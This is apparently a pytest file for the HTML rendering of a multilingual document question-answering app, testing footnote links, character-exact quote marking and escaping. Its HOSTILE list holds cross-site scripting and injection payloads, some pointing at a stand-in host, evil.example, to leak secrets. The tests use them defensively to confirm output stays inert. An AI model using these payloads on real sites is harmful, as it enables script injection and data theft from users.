"""Rendering: exact HTML, quotes marked to the character, and nothing hostile gets through."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from rag.answers import Answer, Citation, Passage, Problem, Statement
from rag.prompts import phrases
from tests.fakes import make_citation, make_passage
from ui.messages import ENGLISH, ExampleQuestion, messages_for
from ui.render import (
    answer_html,
    marked_text_html,
    masthead_html,
    partial_answer_html,
    sentence_html,
    sources_html,
    turn_html,
    welcome_html,
)

GERMAN = make_passage(
    "Mehr als 620 japanische Unternehmen sind in NRW ansässig.",
    number=2,
    title="Nordrhein-Westfalen und Japan",
    language="de",
    heading="Investor von Gewicht",
    document="seeds/de/nrw.md",
)
QUOTE = make_citation("Mehr als 620 japanische Unternehmen", passage=GERMAN)
FINNISH_ANSWER = Answer(
    question="Kuinka monta?",
    language="fi",
    text="Yli 620 [1].",
    answered=True,
    citations=(QUOTE,),
    passages=(GERMAN,),
)

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?secret'>",
    "![exfiltrate](https://evil.example/?secret)",
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "</blockquote></section><h1>fake</h1>",
    "</mark><mark id='turn-1-quote-1'>fake quote</mark>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${alert(1)}`",
    "{title} {number} {0} %s",
    "<math><mtext></table><style><img src=x onerror=alert(1)>",
    "\u202e<b>txt.exe\u202c",
]
TAGS = {"a", "article", "aside", "blockquote", "br", "div", "h2", "h3", "h4", "header"} | {
    "mark", "p", "section", "span", "strong", "sup",
}  # fmt: skip
ATTRIBUTES = {"aria-busy", "aria-hidden", "aria-label", "aria-live", "class", "data-ends", "data-footnote"} | {
    "data-footnotes", "data-mark", "dir", "href", "id", "lang", "role", "tabindex", "title",
}  # fmt: skip


class Reader(HTMLParser):
    """Reads HTML as a browser would: which tags and attributes there are, and the text between them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.marked = ""
        self._in_mark = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self._in_mark = self._in_mark or tag == "mark"

    def handle_endtag(self, tag: str) -> None:
        self._in_mark = self._in_mark and tag != "mark"

    def handle_data(self, data: str) -> None:
        self.text += data
        self.marked += data if self._in_mark else ""


def test_mark_becomes_superscript_link_to_its_quote() -> None:
    assert answer_html(FINNISH_ANSWER, anchor="turn-1") == (
        '<div class="answer-text" lang="fi"><p dir="auto">Yli 620<sup class="footnote"><a id="turn-1-mark-1" '
        'href="#turn-1-quote-1" data-footnote="1" aria-label="Footnote 1: Nordrhein-Westfalen und Japan">1</a></sup>.'
        "</p></div>"
    )


@pytest.mark.parametrize("code", ["`row[1]`", "```\nrow[1]\n```", "https://a.example/?row[1]=2"])
def test_brackets_in_code_and_addresses_are_no_footnote(code: str) -> None:
    shown = code.replace("\n", "<br>")
    html = answer_html(replace(FINNISH_ANSWER, text=f"{code}\n\nYli 620 [1]."), anchor="t")
    assert html.startswith(f'<div class="answer-text" lang="fi"><p dir="auto">{shown}</p><p dir="auto">Yli 620<sup')
    assert html.count("<sup") == 1
    streamed = partial_answer_html(f"{code}\nYli 620 [1].", citation_count=1)
    assert streamed.startswith(f'<div class="answer-text"><p dir="auto">{shown}<br>Yli 620<sup')
    assert streamed.count("<sup") == 1


def test_code_that_goes_on_over_paragraphs_and_statements_stays_code() -> None:
    text = "```\na[1]\n\nb[1]\n```\nYli 620 [1]."
    statements = (Statement(text.index("b[1]"), text.index("b[1]") + 4, problem=Problem.UNCITED),)
    html = answer_html(replace(FINNISH_ANSWER, text=text, statements=statements), anchor="t")
    assert ">b[1]</span>" in html
    assert html.count("<sup") == 1


def test_footnote_is_announced_in_the_language_of_the_page() -> None:
    html = answer_html(FINNISH_ANSWER, messages=messages_for("ja"))
    assert ("aria-label", "脚注1：Nordrhein-Westfalen und Japan") in Reader(html).attributes


def test_paragraphs_and_line_breaks_are_kept() -> None:
    answer = replace(FINNISH_ANSWER, text="Yksi.\nKaksi.\n\n \n\nKolme.", citations=())
    assert answer_html(answer) == (
        '<div class="answer-text" lang="fi"><p dir="auto">Yksi.<br>Kaksi.</p><p dir="auto">Kolme.</p></div>'
    )


def test_only_the_first_of_equal_marks_carries_the_id() -> None:
    html = answer_html(replace(FINNISH_ANSWER, text="A [1]. B [1]."), anchor="t")
    assert html.count('id="t-mark-1"') == 1
    assert html.count('href="#t-quote-1"') == 2


def test_neighbouring_marks_are_separate_links() -> None:
    second = make_citation("NRW", passage=GERMAN, number=2)
    html = answer_html(replace(FINNISH_ANSWER, text="A [1][2].", citations=(QUOTE, second)))
    assert Reader(html).text == "A12."
    assert html.count("<sup") == 2


@pytest.mark.parametrize("text", ["See [7].", "In [2020].", "a[0]", "[x] [] [1", "[-1]"])
def test_number_in_brackets_without_citation_stays_text(text: str) -> None:
    answer = replace(FINNISH_ANSWER, text=text, citations=())
    assert answer_html(answer) == f'<div class="answer-text" lang="fi"><p dir="auto">{text}</p></div>'


def test_notice_follows_the_answer() -> None:
    html = answer_html(replace(FINNISH_ANSWER, text="Ei.", notice="Malli <ei> vastannut."))
    assert html.endswith('</div><p class="notice" dir="auto">Malli &lt;ei&gt; vastannut.</p>')


def test_partial_text_shows_the_marks_whose_citations_are_known() -> None:
    assert partial_answer_html("Yli 620 [2] ja [9]. <b>", citation_count=2) == (
        '<div class="answer-text"><p dir="auto">Yli 620<sup class="footnote"><span>2</span></sup> ja [9]. '
        "&lt;b&gt;</p></div>"
    )


def test_an_unsupported_statement_is_marked_and_counted() -> None:
    text = "Yli 620 [1]. Ja 900 <b> muuta."
    statements = (Statement(0, 12, (1,)), Statement(13, len(text), (), Problem.FACT_MISSING, ("900",)))
    html = answer_html(replace(FINNISH_ANSWER, text=text, statements=statements, model="m"))
    said = phrases("fi")
    assert f'<span class="unsupported" title="{said.unsupported}">Ja 900 &lt;b&gt; muuta.</span></p>' in html
    assert html.count("unsupported") == 1
    assert html.endswith(f'<p class="notice" dir="auto">{said.supported.format(supported=1, total=2)}</p>')


def test_what_was_asked_for_is_bold() -> None:
    answer = replace(FINNISH_ANSWER, text="Sanotaan:\n\n„Yli 620“ [1]", emphasis=((16, 19),))
    assert '<p dir="auto">„Yli <strong>620</strong>“<sup' in answer_html(answer)


def test_spans_outside_of_the_text_change_nothing() -> None:
    answer = replace(FINNISH_ANSWER, emphasis=((2, 99), (5, 5)))
    assert answer_html(answer) == answer_html(FINNISH_ANSWER)


def test_source_shows_number_title_language_heading_and_marked_passage() -> None:
    assert sources_html(FINNISH_ANSWER, anchor="turn-1", messages=messages_for("fi")) == (
        '<h3 class="label">Lähteet</h3><section class="source"><header><div class="numbers">'
        '<a class="number" href="#turn-1-mark-1" data-mark="1" aria-label="Takaisin vastauksen alaviitteeseen 1">1</a>'
        '</div><div class="origin"><h4 class="title" lang="de" dir="auto" title="seeds/de/nrw.md">'
        'Nordrhein-Westfalen und Japan</h4><p class="place"><span class="language">saksa</span> · '
        '<span class="heading" lang="de" dir="auto">Investor von Gewicht</span></p></div></header>'
        '<blockquote lang="de" dir="auto"><mark id="turn-1-quote-1" data-footnotes="1" tabindex="-1">'
        "Mehr als 620 japanische Unternehmen</mark> sind in NRW ansässig.</blockquote></section>"
    )


def test_sources_stand_in_the_order_of_the_footnotes_and_each_passage_once() -> None:
    other = make_passage("First. Second.", number=1, title="Other")
    citations = (
        make_citation("620", passage=GERMAN, number=1),
        make_citation("Second", passage=other, number=2),
        make_citation("NRW", passage=GERMAN, number=3),
    )
    html = sources_html(replace(FINNISH_ANSWER, citations=citations, passages=(other, GERMAN)))
    assert html.count("<section") == 2
    assert html.index("Nordrhein-Westfalen und Japan") < html.index("Other")
    assert Reader(html).marked == "620NRWSecond"


def test_passage_that_is_not_cited_is_not_a_source() -> None:
    other = make_passage("Unrelated.", number=1)
    assert "Unrelated" not in sources_html(replace(FINNISH_ANSWER, passages=(other, GERMAN)))


def test_nearest_passages_are_offered_without_marks_when_nothing_was_found() -> None:
    passages = tuple(make_passage(f"Text {number}.", number=number) for number in range(1, 6))
    html = sources_html(Answer("q", "en", "Not in the documents.", answered=False, passages=passages))
    assert html.startswith(
        '<h3 class="label">Nearest passages</h3><p class="hint">They do not answer the question; they only come '
        'closest to it.</p><section class="source nearest"><header><div class="origin">'
    )
    assert html.count('<section class="source nearest">') == 3
    assert "<mark" not in html
    assert 'class="number' not in html


@pytest.mark.parametrize("answered", [True, False])
def test_nothing_is_shown_beside_an_answer_without_passages(answered: bool) -> None:
    assert sources_html(Answer("q", "en", "Hello.", answered=answered)) == ""


def _cited(text: str, *quotes: tuple[int, int]) -> tuple[Passage, list[Citation]]:
    passage = make_passage(text, start=1000)
    citations = [
        Citation(number, 1, "d", "t", "en", text[start:end], 1000 + start, 1000 + end, "c")
        for number, (start, end) in enumerate(quotes, start=1)
    ]
    return passage, citations


@pytest.mark.parametrize(
    ("quotes", "expected"),
    [
        pytest.param([(0, 9)], '<mark id="a-quote-1" data-footnotes="1" tabindex="-1">abcdefghi</mark>', id="whole"),
        pytest.param(
            [(2, 4), (6, 8)],
            'ab<mark id="a-quote-1" data-footnotes="1" data-ends="1" tabindex="-1">cd</mark>ef'
            '<mark id="a-quote-2" data-footnotes="2" data-ends="2" tabindex="-1">gh</mark>i',
            id="apart",
        ),
        pytest.param(
            [(0, 4), (4, 9)],
            '<mark id="a-quote-1" data-footnotes="1" data-ends="1" tabindex="-1">abcd</mark>'
            '<mark id="a-quote-2" data-footnotes="2" data-ends="2" tabindex="-1">efghi</mark>',
            id="touching",
        ),
        pytest.param(
            [(0, 5), (3, 8)],
            '<mark id="a-quote-1" data-footnotes="1" tabindex="-1">abc</mark>'
            '<mark id="a-quote-2" data-footnotes="1 2" data-ends="1" tabindex="-1">de</mark>'
            '<mark data-footnotes="2" data-ends="2" tabindex="-1">fgh</mark>i',
            id="overlapping",
        ),
        pytest.param(
            [(0, 8), (2, 4)],
            '<mark id="a-quote-1" data-footnotes="1" tabindex="-1">ab</mark>'
            '<mark id="a-quote-2" data-footnotes="1 2" data-ends="2" tabindex="-1">cd</mark>'
            '<mark data-footnotes="1" data-ends="1" tabindex="-1">efgh</mark>i',
            id="one inside the other",
        ),
        pytest.param(
            [(0, 4), (0, 2)],
            '<mark id="a-quote-1" data-footnotes="1 2" data-ends="2" tabindex="-1"><span id="a-quote-2"></span>'
            "ab</mark>"
            '<mark data-footnotes="1" data-ends="1" tabindex="-1">cd</mark>efghi',
            id="same start",
        ),
    ],
)
def test_quotes_are_marked_to_the_character(quotes: list[tuple[int, int]], expected: str) -> None:
    passage, citations = _cited("abcdefghi", *quotes)
    assert marked_text_html(passage, citations, anchor="a") == expected


@pytest.mark.parametrize(
    ("language", "text", "quote"),
    [
        pytest.param("en", "He said <b>no</b> & left.", "<b>no</b> & left", id="en"),
        pytest.param("de", "Über 620 Unternehmen größer.", "größer", id="de"),
        pytest.param("fi", "Lahden seutu on solminut sopimuksen.", "solminut sopimuksen", id="fi"),
        pytest.param("ja", "石坂産業と協力します。教育と技術。", "教育と技術", id="ja"),
        pytest.param("ar", "وقّعت لاهتي اتفاقية تعاون.", "اتفاقية تعاون", id="ar"),
        pytest.param("hi", "लाहती ने समझौता किया।", "समझौता", id="hi"),
        pytest.param("th", "ลาห์ตีลงนามข้อตกลงความร่วมมือ", "ข้อตกลง", id="th"),
        pytest.param("zh", "拉赫蒂签署了合作协议😀。完", "合作协议😀", id="zh"),
    ],
)
def test_exactly_the_quoted_characters_are_marked(language: str, text: str, quote: str) -> None:
    passage = make_passage(text, language=language)
    read = Reader(marked_text_html(passage, [make_citation(quote, passage=passage)]))
    assert (read.marked, read.text) == (quote, text)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_stays_text(payload: str) -> None:
    passage = make_passage(
        f"Before {payload} after.", title=payload, heading=payload, document=payload, language=payload
    )
    citation = make_citation(payload, passage=passage)
    answer = Answer(
        payload,
        payload,
        f"{payload} [1]",
        True,
        (citation,),
        (passage,),
        model=payload,
        notice=payload,
        statements=(Statement(0, len(payload), (), Problem.UNCITED),),
        answer_language=payload,
    )
    nearest = replace(answer, answered=False, citations=())
    for shown in (
        turn_html(payload, answer=answer_html(answer, anchor="turn-1"), sources=sources_html(answer, anchor="turn-1")),
        turn_html(payload, answer=partial_answer_html(payload, citation_count=1), sources=sources_html(nearest)),
    ):
        read = Reader(shown)
        assert read.tags <= TAGS
        assert {name for name, _ in read.attributes} <= ATTRIBUTES
        assert {value[:8] for name, value in read.attributes if name == "href"} <= {"#turn-1-"}
        assert payload in read.text
    assert Reader(sources_html(answer)).marked == payload


def test_turn_puts_the_question_above_the_answer_and_its_sources() -> None:
    assert turn_html("Kuka & miksi?", answer="A", sources="S", busy=True, messages=messages_for("ar")) == (
        '<article class="turn" dir="rtl"><h2 class="question" dir="auto">Kuka &amp; miksi?</h2>'
        '<div class="answer" aria-live="polite" aria-busy="true">A</div><aside class="sources">S</aside></article>'
    )


def test_failure_is_announced() -> None:
    assert sentence_html("No <answer>.", kind="failed") == (
        '<p class="failed" role="alert" dir="auto">No &lt;answer&gt;.</p>'
    )


def test_masthead_tells_the_page_its_language_and_direction() -> None:
    assert masthead_html(3, messages=messages_for("ar")) == (
        '<div class="masthead" data-language="ar" dir="rtl"><span class="name">Footnote</span>'
        '<span class="count">المستندات: 3</span></div>'
    )


def test_welcome_offers_each_example_in_its_own_language() -> None:
    html = welcome_html(1, [ExampleQuestion("fi", "Kuka <b>?")], messages=ENGLISH)
    assert html == (
        '<div class="welcome" dir="ltr"><h1 class="title">Ask your documents</h1><p class="lead">Ask in any language. '
        'Every footnote in an answer leads to the exact words it rests on.</p><h2 class="label">For example</h2>'
        '<ul class="examples"><li><button type="button" class="example" data-example="0">'
        '<span class="language">Finnish</span><span class="text" lang="fi" dir="auto">Kuka &lt;b&gt;?</span>'
        "</button></li></ul></div>"
    )


def test_welcome_without_documents_offers_no_questions() -> None:
    assert welcome_html(0, [ExampleQuestion("fi", "Kuka?")], messages=ENGLISH) == (
        '<div class="welcome" dir="ltr"><h1 class="title">Ask your documents</h1>'
        '<p class="lead">No documents are indexed yet.</p></div>'
    )
